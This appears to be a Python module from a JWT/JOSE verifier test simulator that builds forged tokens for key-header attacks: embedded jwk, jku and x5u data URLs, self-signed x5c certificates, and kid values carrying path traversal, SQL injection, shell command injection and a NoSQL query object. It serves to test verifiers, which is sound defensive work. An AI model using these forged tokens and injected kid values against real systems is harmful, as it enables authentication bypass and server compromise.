"""Attacks through what a header says of keys: which one, and where to find it."""

from __future__ import annotations

from base64 import b64encode
from datetime import UTC, datetime
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from simulator.attacks.algorithm import FREE, raised
from simulator.attacks.catalogue import attacks_of
from simulator.attacks.keymaking import secret
from simulator.attacks.scene import ABSENT, Scene
from simulator.jose.encoding import write_json

attack = attacks_of("key headers")

OWN_STAMP = "the token brings the stamp along with which it is checked"


def by_mallory(scene: Scene, **header: Any) -> str:
    """A token that Mallory signed with her own key, correctly."""
    about = {"kid": scene.mallory.kid, **header}
    return scene.token(raised(scene), scene.header(scene.mallory, **about), key=scene.mallory)


@attack(
    knows=FREE,
    where="published",
    reference="RFC 7515 4.1.3; CVE-2018-0114",
    layer="key",
    hole="trusts jwk",
    otherwise=OWN_STAMP,
)
def jwk(scene: Scene) -> str:
    """Mallory's public key in the header, her signature below."""
    return by_mallory(scene, jwk=scene.mallory.jwk())


@attack(
    knows="the name of a key, which stands in every token",
    where="published",
    reference="RFC 7515 4.1.3; CVE-2018-0114",
    layer="signature",
    hole="trusts jwk",
    otherwise=f"the name is looked at, and then {OWN_STAMP}",
)
def jwk_under_a_known_name(scene: Scene) -> str:
    """The same, and `kid` is that of an honest key."""
    kid = scene.named("ec").kid
    return by_mallory(scene, kid=kid, jwk=scene.mallory.jwk() | {"kid": kid})


def data_url(kind: str, octets: bytes) -> str:
    """An address that holds what is found there (RFC 2397)."""
    return f"data:{kind};base64,{b64encode(octets).decode()}"


@attack(
    knows="an address to put a file at",
    where="published",
    reference="RFC 7515 4.1.2; RFC 8725 3.10",
    layer="key",
    hole="follows jku",
    otherwise="the verifier fetches its keys from whoever wants to be believed",
)
def jku(scene: Scene) -> str:
    """The address of a JWK Set of Mallory's."""
    keys = write_json({"keys": [scene.mallory.jwk()]})
    return by_mallory(scene, jku=data_url("application/jwk-set+json", keys))


@attack(
    knows="an address to put a file at",
    where="published",
    reference="RFC 7515 4.1.5; RFC 8725 3.10",
    layer="key",
    hole="follows x5u",
    otherwise="a certificate that nobody vouches for is as good as one of the issuer's",
)
def x5u(scene: Scene) -> str:
    """The address of a certificate that Mallory made for herself."""
    pem = certificate(scene).public_bytes(Encoding.PEM)
    return by_mallory(scene, x5u=data_url("application/x-pem-file", pem))


@attack(
    knows=FREE,
    where="published",
    reference="RFC 7515 4.1.6",
    layer="key",
    hole="trusts x5c",
    otherwise="a certificate that nobody vouches for is as good as one of the issuer's",
)
def x5c(scene: Scene) -> str:
    """A certificate that Mallory made for herself, in the header."""
    der = certificate(scene).public_bytes(Encoding.DER)
    return by_mallory(scene, x5c=[b64encode(der).decode()])


def certificate(scene: Scene) -> x509.Certificate:
    """A certificate in the issuer's name, signed by Mallory, for Mallory's key."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "login.example")])
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(scene.mallory.verifying)
        .serial_number(scene.random.getrandbits(60) + 1)
        .not_valid_before(datetime(2020, 1, 1, tzinfo=UTC))
        .not_valid_after(datetime(2040, 1, 1, tzinfo=UTC))
        .sign(scene.mallory.signing, hashes.SHA256())
    )


def by_secret(scene: Scene, octets: bytes, kid: str) -> str:
    """An HS256 token with a secret of Mallory's choice, under a name of her choice."""
    key = secret(octets, "HS256", kid)
    return scene.token(raised(scene), scene.header(key), key=key)


@attack(
    knows="a file on the server whose content is known: /dev/null is empty",
    where="secret",
    reference="RFC 8725 3.10",
    layer="key",
    hole="reads kid as a path",
    otherwise="the token says which file holds the secret",
)
def kid_as_path(scene: Scene) -> str:
    """`kid` climbs out of the folder of keys, to an empty file."""
    return by_secret(scene, b"", "../../../../dev/null")


@attack(
    knows="that keys lie in a database",
    where="secret",
    reference="RFC 8725 3.10",
    layer="key",
    hole="reads kid as SQL",
    otherwise="the token writes the query's answer",
)
def kid_as_sql(scene: Scene) -> str:
    """`kid` closes the quotation mark and adds a row of its own."""
    chosen = f"{scene.random.getrandbits(128):032x}"
    return by_secret(scene, chosen.encode(), f"x' UNION SELECT '{chosen}' -- ")


@attack(
    knows="that keys are read by a shell command",
    where="secret",
    reference="RFC 8725 3.10",
    layer="key",
    hole="reads kid as a command",
    otherwise="the token runs programs on the server",
)
def kid_as_command(scene: Scene) -> str:
    """`kid` ends the command and begins another."""
    chosen = f"{scene.random.getrandbits(128):032x}"
    return by_secret(scene, chosen.encode(), f"x; printf {chosen}")


@attack(
    knows=FREE,
    where="published",
    reference="RFC 7515 6",
    layer="key",
    hole="lets unknown names pass",
    otherwise="without a key there is nothing to check, so nothing is checked",
)
def kid_unknown(scene: Scene) -> str:
    """Mallory's signature, under a name that nobody has published."""
    return by_mallory(scene)


@attack(
    knows="that the issuer has two keys for ES256, and how to have one of them sign",
    where="published",
    reference="RFC 7515 6",
    layer="key",
    hole="tries every key",
    otherwise="each key is tried: the work of a whole set, and any of its keys will do",
)
def kid_missing(scene: Scene) -> str:
    """No `kid`, where two keys would fit."""
    key = scene.named("ec-old")
    return scene.token(header=scene.header(key, kid=ABSENT), key=key)


@attack(
    knows="how to have a second key of the issuer's sign",
    where="published",
    reference="RFC 7517 4.5; RFC 8725 3.1",
    layer="key",
    hole="tries every key",
    otherwise="the key that is named and the key that is used are not the same",
)
def kid_of_another_type(scene: Scene) -> str:
    """`kid` names the Ed25519 key, the algorithm and the signature are ES256."""
    key = scene.named("ec")
    return scene.token(header=scene.header(key, kid=scene.named("ed").kid), key=key)


@attack(
    knows="that names are looked up in a database of documents",
    where="published",
    reference="RFC 7515 4.1.4",
    layer="decode",
    hole="tries every key",
    otherwise="a name that is a query finds a key, whichever",
)
def kid_as_query(scene: Scene) -> str:
    """`kid` is an object, `{"$ne": null}`."""
    key = scene.named("ec")
    return scene.token(header=scene.header(key, kid={"$ne": None}), key=key)


@attack(
    knows="the private half of the encryption key, which lies on a machine with a weaker lock",
    where="published",
    reference="RFC 7517 4.2",
    layer="key",
    hole="ignores use",
    otherwise="who may only read secrets may also sign",
)
def encryption_key(scene: Scene) -> str:
    """Signed by the key pair that is published with `use: enc`."""
    pair = scene.encryption_pair
    return scene.token(raised(scene), scene.header(pair), key=pair)


@attack(
    knows="the secret that all clients share to encrypt for the backend",
    where="secret",
    reference="RFC 7517 4.2",
    layer="key",
    hole="ignores use",
    otherwise="who may only encrypt may also sign",
)
def sealing_secret(scene: Scene) -> str:
    """HS256 with the secret that is in the set with `use: enc`."""
    seal = scene.sealing
    return scene.token(raised(scene), scene.header(seal, alg="HS256"), key=seal, algorithm="HS256")
